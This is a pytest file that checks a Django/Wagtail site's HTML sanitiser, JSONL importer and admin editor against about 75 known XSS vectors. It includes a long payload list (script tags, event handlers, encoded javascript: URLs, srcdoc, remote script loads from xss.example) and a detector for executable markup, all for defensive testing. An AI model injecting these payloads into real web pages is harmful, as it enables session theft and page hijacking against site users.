"""Known XSS vectors through every way partner HTML enters: the sanitiser itself, the JSONL
importer, and the admin page editor (a partner contributor's study, approved and rendered).

A rendered page passes when parsing it (html.parser, as a browser tokenises) finds no
executable markup that a benign control page does not also have: no script/iframe/object/
embed/svg/… elements, no on* event attributes, no javascript:/vbscript:/data: URLs (after
the browser's own whitespace and entity decoding), no srcdoc, no style expressions.
"""

import html
import json
import re
from html.parser import HTMLParser

import pytest
from django.core.management import call_command
from django.urls import reverse

from knowledge.pages import CaseStudyPage, PartnerProfilePage, PartnerStudyPage
from knowledge.sanitiser import sanitise_html
from knowledge.vocabularies import Region, Topic
from tests.editorial.helpers import add_url, admin_form, client_for, post_form

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/xss src=http://xss.example/x.js></script>",
    "<<script>alert(1);//<</script>",
    "<script src=//xss.example/.j>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<IMG SRC="javascript:alert(1);">',
    "<IMG SRC=javascript:alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65>",
    '<IMG SRC="jav\tascript:alert(1);">',
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    '<IMG SRC=" &#14;  javascript:alert(1);">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img src="x" onError="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<body onload=alert(1)>",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    '<a href="javascript:alert(1)">link</a>',
    '<a href="JAVASCRIPT:alert(1)">link</a>',
    '<a href=" javascript:alert(1)">link</a>',
    '<a href="java&#x09;script:alert(1)">link</a>',
    '<a href="&#x6A;avascript:alert(1)">link</a>',
    '<a href="javascript&colon;alert(1)">link</a>',
    '<a href="vbscript:msgbox(1)">link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
    '<a href="http://ok.example" onclick="alert(1)">link</a>',
    '<a href="http://ok.example" onmouseover=alert(1)>hover</a>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="width: expression(alert(1));">x</div>',
    "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
    "<style>body{background:url(\"javascript:alert('XSS')\")}</style>",
    '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<IFRAME SRC=# onmouseover=alert(1)></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    '<object data="javascript:alert(1)"></object>',
    '<object type="text/x-scriptlet" data="http://xss.example/scriptlet.html"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
    '<META HTTP-EQUIV="refresh" '
    'CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
    '<BASE HREF="javascript:alert(1);//">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<td background="javascript:alert(1)">x</td>',
    "<div/onmouseover='alert(1)'>x</div>",
    "<p <script>alert(1)</script>>text</p>",
    "<b onmouseover=alert(1)>unclosed bold",
    "<img src=x onerror=alert(1)//",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="http://ok.example/" style="position:fixed;top:0">overlay</a>',
]

DANGEROUS_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math",
    "style", "link", "meta", "base", "form", "input", "button", "textarea", "select",
    "details", "video", "audio", "source", "marquee", "template", "xss", "noscript", "img",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "data", "xlink:href", "background", "poster",
    "content", "lowsrc", "dynsrc",
}  # fmt: skip
BAD_SCHEME = re.compile(r"(javascript|vbscript|data|livescript):")
WHITESPACE_AND_CONTROL = re.compile(r"[\x00-\x20]+")


def _executable_url(attribute: str, squeezed: str) -> bool:
    """A browser runs a URL by its scheme, at the start (meta refresh: after "url=")."""
    if attribute == "content":
        return bool(re.search(r"url=" + BAD_SCHEME.pattern, squeezed))
    return bool(BAD_SCHEME.match(squeezed))


class ExecutableMarkup(HTMLParser):
    """Collects signatures of every executable construct in a document."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: set[str] = set()

    def handle_starttag(self, tag, attrs):
        if tag in DANGEROUS_TAGS:
            self.found.add(f"<{tag} {sorted(attrs)}>")
        for name, value in attrs:
            value = value or ""
            squeezed = WHITESPACE_AND_CONTROL.sub("", value).lower()
            if name.startswith("on") or name == "srcdoc":
                self.found.add(f"{tag}[{name}]")
            elif name in URL_ATTRIBUTES and _executable_url(name, squeezed):
                self.found.add(f"{tag}[{name}={value}]")
            elif name == "style" and ("expression(" in squeezed or "url(" in squeezed):
                self.found.add(f"{tag}[style={value}]")

    handle_startendtag = handle_starttag


def executable_markup(document: str) -> set[str]:
    parser = ExecutableMarkup()
    parser.feed(document)
    parser.close()
    return parser.found


def test_enough_vectors():
    assert len(VECTORS) >= 60
    # The checker itself finds what it must: every vector but the escaped one is caught raw.
    caught = [v for v in VECTORS if executable_markup(v)]
    assert len(caught) >= 60


@pytest.mark.parametrize("vector", VECTORS)
def test_sanitiser_leaves_nothing_executable(vector):
    assert executable_markup(sanitise_html(vector)) == set()


def rendered(client, page) -> str:
    response = client.get(page.url)
    assert response.status_code == 200
    # The page's own address, in its hreflang alternates, differs from page to page.
    return response.content.decode().replace(page.url, "/PAGE/")


@pytest.mark.django_db
def test_import_command_renders_no_vector(site_tree, tmp_path, client):
    lines = [
        {
            "external_id": f"xss-{i}",
            "type": "case_study",
            "title": f"Vector {i} {vector}",
            "summary": f"Summary {vector}",
            "body_html": f"<p>Body</p>{vector}",
            "what_happened": vector,
            "lessons_learned": f"<p>{vector}</p>",
            "regions": ["EUR"],
            "topics": [Topic.objects.first().code],
            "published": "2024-01-01",
            "language": "en",
        }
        for i, vector in enumerate(VECTORS)
    ]
    lines.append(
        {
            "external_id": "control",
            "type": "case_study",
            "title": "Control",
            "summary": "Benign",
            "body_html": '<p>Body <a href="https://ok.example/">link</a></p>',
            "what_happened": "<p>Fine</p>",
            "lessons_learned": "<p>Fine</p>",
            "regions": ["EUR"],
            "topics": [Topic.objects.first().code],
            "published": "2024-01-01",
            "language": "en",
        }
    )
    path = tmp_path / "vectors.jsonl"
    path.write_text("\n".join(json.dumps(line) for line in lines), encoding="utf-8")
    call_command("import_knowledge", str(path))

    pages = {p.external_id: p for p in CaseStudyPage.objects.live()}
    assert len(pages) == len(lines)
    baseline = executable_markup(rendered(client, pages["control"]))
    leaks = {}
    for i, vector in enumerate(VECTORS):
        page = pages[f"xss-{i}"]
        extra = executable_markup(rendered(client, page)) - baseline
        if extra:
            leaks[vector] = extra
    assert leaks == {}


def _submit_study_through_admin(contributor_client, profile, slug: str, vectors: list[str]):
    """One study carrying `vectors`: the first in its title (the import test puts each in a
    title), all of them in the plain fields, one paragraph block and one rich-text block each."""
    joined = " ".join(vectors)
    data = admin_form(contributor_client, add_url(PartnerStudyPage, profile))
    data.update(
        {
            "title": f"Study {slug} {vectors[0]}"[:255],
            "slug": slug,
            "summary": f"Summary {joined}",
            "commissioning_body": joined[:200],
            "contributing_partner": str(profile.partner_id),
            "methodology": _rich_text(vectors),
            "body-count": str(len(vectors)),
            "action-submit": "action-submit",
        }
    )
    for i, vector in enumerate(vectors):
        data.update(
            {
                f"body-{i}-type": "paragraph",
                f"body-{i}-value": _rich_text([vector]),
                f"body-{i}-deleted": "",
                f"body-{i}-order": str(i),
                f"body-{i}-id": "",
            }
        )
    data.setlist("regions", [str(Region.objects.get(code="EUR").pk)])
    data.setlist("topics", [str(Topic.objects.first().pk)])
    post_form(contributor_client, add_url(PartnerStudyPage, profile), data)
    return PartnerStudyPage.objects.get(slug=slug)


URL_IN_VECTOR = re.compile(r"(?:href|src|data|action|background)\s*=\s*[\"'`]?([^\"'` >]+)", re.I)


def _rich_text(vectors: list[str]) -> str:
    """Draftail's contentstate as a browser would post it after pasting each vector: a block
    per vector, the vector as text, linked to the URL it carries (entity-decoded), and to the
    whole vector as a URL."""
    blocks, entities = [], {}
    for i, vector in enumerate(vectors):
        found = URL_IN_VECTOR.findall(vector)
        url = html.unescape(found[0]) if found else vector
        blocks.append(
            {
                "key": f"xss{i:02d}",
                "type": "unstyled",
                "depth": 0,
                "text": f"{vector} link",
                "inlineStyleRanges": [],
                "entityRanges": [
                    {"offset": 0, "length": len(vector), "key": 2 * i},
                    {"offset": len(vector) + 1, "length": 4, "key": 2 * i + 1},
                ],
                "data": {},
            }
        )
        for key, target in ((2 * i, vector), (2 * i + 1, url)):
            entities[str(key)] = {"type": "LINK", "mutability": "MUTABLE", "data": {"url": target}}
    return json.dumps({"blocks": blocks, "entityMap": entities})


BATCH = 8  # vectors per study: the admin's submit and approve round trip is the slow part


@pytest.mark.django_db
def test_admin_editor_renders_no_vector(make_user, client):
    """A contributor pastes each vector into every field of a study, submits it, the
    Secretariat approves it, and the published page is parsed."""
    contributor_client = client_for(make_user("partner", "TI"))
    reviewer_client = client_for(make_user("secretariat"))
    profile = PartnerProfilePage.objects.get(partner__acronym="TI")

    def publish(slug, vectors):
        study = _submit_study_through_admin(contributor_client, profile, slug, vectors)
        task_state = study.current_workflow_task_state
        reviewer_client.post(
            reverse("wagtailadmin_pages:workflow_action", args=(study.pk, "approve", task_state.pk))
        )
        study.refresh_from_db()
        assert study.live, slug
        return executable_markup(rendered(client, study))

    baseline = publish("control", ['<p>Fine <a href="https://ok.example/">link</a></p>'])
    leaks = {}
    for start in range(0, len(VECTORS), BATCH):
        batch = VECTORS[start : start + BATCH]
        if publish(f"vectors-{start}", batch) - baseline:
            for i, vector in enumerate(batch):  # name the vector that got through
                if extra := publish(f"vector-{start + i}", [vector]) - baseline:
                    leaks[vector] = extra
            assert leaks, f"vectors {start}-{start + len(batch) - 1} leak only together"
    assert leaks == {}
